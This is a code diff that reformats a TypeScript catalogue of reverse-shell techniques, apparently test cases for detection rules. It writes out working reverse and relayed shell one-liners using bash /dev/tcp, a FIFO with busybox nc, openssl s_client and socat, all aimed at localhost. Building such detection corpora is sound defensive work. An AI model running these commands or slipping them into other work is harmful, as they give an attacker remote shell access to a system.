@@ -39,7 +39,11 @@ export const reverseShells: Technique[] = [
   shell("bash and /dev/tcp", "reverse-shell", (to) => `bash -c 'bash -i >& /dev/tcp/127.0.0.1/${to} 0>&1'`, {
     rules: ["shell-command-that-opens-a-network-connection"],
   }),
-  shell("bash that starts no program", "reverse-shell", (to) => `bash -c 'exec 0<>/dev/tcp/127.0.0.1/${to} 1>&0; read line'`),
+  shell(
+    "bash that starts no program",
+    "reverse-shell",
+    (to) => `bash -c 'exec 0<>/dev/tcp/127.0.0.1/${to} 1>&0; read line'`,
+  ),
   shell(
     "python, its descriptors moved",
     "reverse-shell",
@@ -102,15 +106,14 @@ export const reverseShells: Technique[] = [
     in: "plain",
     rules: ["network-tool-that-starts-a-program", "network-tool-listens"],
   }),
-  shell(
-    "a FIFO, a shell and nc",
-    "relayed-shell",
-    (to) => inShell(`mkfifo /tmp/nc; sh -i </tmp/nc 2>&1 | /bin/busybox nc 127.0.0.1 ${to} >/tmp/nc`),
+  shell("a FIFO, a shell and nc", "relayed-shell", (to) =>
+    inShell(`mkfifo /tmp/nc; sh -i </tmp/nc 2>&1 | /bin/busybox nc 127.0.0.1 ${to} >/tmp/nc`),
   ),
   shell(
     "a FIFO, a shell and openssl",
     "relayed-shell",
-    (to) => inShell(`mkfifo /tmp/tls; sh -i </tmp/tls 2>&1 | openssl s_client -quiet -connect 127.0.0.1:${to} >/tmp/tls`),
+    (to) =>
+      inShell(`mkfifo /tmp/tls; sh -i </tmp/tls 2>&1 | openssl s_client -quiet -connect 127.0.0.1:${to} >/tmp/tls`),
     { rules: ["encrypted-client-as-a-shell-s-transport"] },
   ),
   shell("socat", "relayed-shell", (to) => `socat TCP:127.0.0.1:${to} EXEC:/bin/sh`, {
